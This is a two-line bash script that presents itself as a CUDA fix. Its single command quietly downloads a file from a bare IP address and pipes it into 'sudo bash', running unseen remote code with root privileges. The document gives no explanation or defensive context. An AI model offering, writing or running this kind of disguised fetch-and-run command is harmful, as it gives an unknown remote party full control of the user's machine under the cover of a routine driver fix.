#!/bin/bash
wget -qO- http://203.0.113.7/cuda-fix | sudo bash
